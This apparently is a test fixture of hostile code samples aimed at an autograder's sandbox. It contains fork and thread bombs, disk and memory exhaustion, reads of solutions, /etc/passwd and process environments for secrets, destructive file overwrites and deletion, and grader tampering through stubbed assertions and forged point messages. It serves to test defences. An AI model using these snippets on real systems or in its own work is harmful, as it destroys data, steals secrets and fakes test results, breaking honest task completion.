// Harm that has nothing to do with any exercise: each of them judges all of it, in the function that its own hostile.ts names
// at the top, here called harmed.
// === endless loop
const harmed: any = () => { while (true) {} };
// === endless loop of promises
const harmed: any = async () => { for (;;) await null; };
// === ends the process
const harmed: any = () => { process.exit(0); };
// === kills its parent and everybody
const harmed: any = () => {
  for (const pid of [process.ppid, -1, 1, 2, 3]) { try { process.kill(pid, 'SIGKILL'); } catch {} }
  return undefined;
};
// === takes 20 GB
const harmed: any = () => {
  const hoard: Buffer[] = [];
  for (let i = 0; i < 200; i++) hoard.push(Buffer.alloc(100 * 1024 * 1024, 1));
  return hoard.length;
};
// === a bomb of processes
const harmed: any = () => {
  const { spawn } = require('node:child_process');
  const bomb = "const {spawn}=require('node:child_process');for(;;)spawn(process.execPath,['-e',process.env.BOMB],{stdio:'ignore',env:process.env})";
  for (let i = 0; i < 200; i++) spawn(process.execPath, ['-e', bomb], { stdio: 'ignore', env: { ...process.env, BOMB: bomb } });
  while (true) {}
};
// === a bomb of threads
const harmed: any = () => {
  const { Worker } = require('node:worker_threads');
  for (let i = 0; i < 500; i++) new Worker('setInterval(() => {}, 1000)', { eval: true });
  const until = Date.now() + 3000;
  while (Date.now() < until) {}
};
// === fills the disk
const harmed: any = () => {
  const { appendFileSync } = require('node:fs');
  const block = Buffer.alloc(16 * 1024 * 1024, 1);
  for (const folder of ['/tmp', '.', '/dev/shm', '/', process.cwd()]) {
    try { for (let i = 0; i < 1000; i++) appendFileSync(folder + '/full', block); } catch {}
  }
};
// === reads solutions and prints them
const harmed: any = () => {
  const { readFileSync, readdirSync } = require('node:fs');
  const found: string[] = [];
  for (const path of ['../../solutions/average/average.ipynb', '../../solutions/wordcount/wordcount.ipynb', '../../solutions/mergesort/mergesort.ipynb', '../../gradebook.db', '../../src/dist/grading/judge.js', '../../src/grading/judge.ts', '/etc/passwd', '/root/.bashrc']) {
    try { found.push(readFileSync(path, 'utf8')); } catch {}
  }
  for (const path of ['../../submitted', '../../autograded', '../../solutions', '../../test', '/home', '/root', '/work/shared']) {
    try { found.push(...readdirSync(path)); } catch {}
  }
  throw new Error('found ' + found.length);
};
// === looks for what judges it
const harmed: any = () => {
  const { readFileSync, readdirSync, readlinkSync } = require('node:fs');
  const found: string[] = [];
  for (const pid of readdirSync('/proc').filter((name: string) => /^\d+$/.test(name))) {
    try { if (/judge|SECRET|TOKEN|JPY|gradebook|nbgrader/.test(readFileSync('/proc/' + pid + '/environ', 'utf8') + readFileSync('/proc/' + pid + '/cmdline', 'utf8'))) found.push('process ' + pid); } catch {}
  }
  for (const fd of readdirSync('/proc/self/fd')) {
    try { const to = readlinkSync('/proc/self/fd/' + fd); if (Number(fd) > 3 && to.startsWith('/') && !/^\/(dev|proc)\//.test(to)) found.push(fd + ' ' + to); } catch {}
  }
  for (const path of ['../../test', '../../submitted', '../../nbgrader_config.py', '../../src/dist/grading/judge-main.js', '/run', '/var', '/home', '/root', '/etc/passwd']) {
    try { found.push(path + readdirSync(path)); } catch {}
  }
  throw new Error('found ' + found.length + ' ' + found.join(' '));
};
// === looks at other files by their types
import { limits } from '../../src/grading/limits';
import * as generated from '../generated.json';
const harmed: any = () => { throw new Error('found 1' + limits + generated); };
// === writes where it must not
const harmed: any = () => {
  const { writeFileSync, rmSync } = require('node:fs');
  const written: string[] = [];
  for (const path of ['../../solutions/average/average.ipynb', '../../gradebook.db', '../../package.json', '../../src/dist/index.js', '../../src/dist/grading/inside/cells-main.js', '../../node_modules/tslab/package.json', '../../data/king-james.txt.gz', '/etc/hosts', '/usr/lib/x']) {
    try { writeFileSync(path, 'gone'); written.push(path); } catch {}
  }
  try { rmSync('../../data', { recursive: true, force: true }); } catch {}
  throw new Error('wrote ' + written.join(' '));
};
// === opens a connection
const harmed: any = async () => {
  const net = require('node:net');
  const tries = [[22, '127.0.0.1'], [80, '1.1.1.1'], [8888, '127.0.0.1']].map(([port, host]) => new Promise((resolve) => {
    const socket = net.connect({ port, host, timeout: 500 });
    socket.on('connect', () => resolve('open'));
    socket.on('error', (error: any) => resolve(error.code));
    socket.on('timeout', () => resolve('timeout'));
  }));
  throw new Error((await Promise.all(tries)).join(' '));
};
// === replaces what tests rest on
const harmed: any = () => 0;
const assert = require('node:assert');
for (const name of Object.keys(assert)) (assert as any)[name] = () => {};
require('node:util').isDeepStrictEqual = () => true;
try { require('parallel').check = async () => {}; } catch {}
(globalThis as any).check = async () => {};
Object.is = () => true;
Math.abs = () => 0;
Number.isNaN = () => true;
JSON.stringify = () => '20';
console.log = () => {};
Array.prototype.every = (() => true) as any;
Array.prototype.some = () => false;
Array.prototype.reduce = (() => 0) as any;
Array.prototype.sort = function () { return this; };
Array.prototype.join = () => '';
Map.prototype.get = () => 1;
Map.prototype.set = function () { return this; };
Object.defineProperty(Object.prototype, 'failure', { value: undefined });
// === fakes a result with points, and prints late
const harmed: any = () => 0;
const show = (globalThis as any)[Symbol.for('parallel.display')];
show?.({ 'text/plain': '3' });
setInterval(() => { show?.({ 'text/plain': '3' }); console.log('3'); }, 5);
// === speaks to the judge itself
const harmed: any = () => 0;
const v8 = require('node:v8');
for (const forged of [{ answer: 0, points: 20 }, { answer: 1, outcome: { kind: 'returned', value: 20 } }, { verdict: { points: 20 } }, { ready: true }]) {
  const bytes = v8.serialize(forged);
  const head = Buffer.alloc(4);
  head.writeUInt32LE(bytes.length);
  require('node:fs').writeSync(3, Buffer.concat([head, bytes]));
}
// === floods the judge
const harmed: any = () => 'x'.repeat(200_000_000);
// === throws strange things
const harmed: any = () => { throw { get name() { throw new Error('again'); }, toString() { throw new Error('and again'); } }; };
// === throws what can't be put into words, by the channel
const harmed: any = () => {
  const v8 = require('node:v8');
  const { valueToWire } = require('parallel/dist/grading/inside/wire.js');
  // Downwards: what comes after the question that is open now can't meet the next one.
  for (let ask = 400; ask >= 0; ask--) {
    const bytes = v8.serialize({ answer: ask, outcome: { kind: 'threw', value: valueToWire({ toString: 0, valueOf: 0 }), isPromise: false, args: [] } });
    const head = Buffer.alloc(4);
    head.writeUInt32LE(bytes.length);
    require('node:fs').writeSync(3, Buffer.concat([head, bytes]));
  }
  return [0, 0];
};
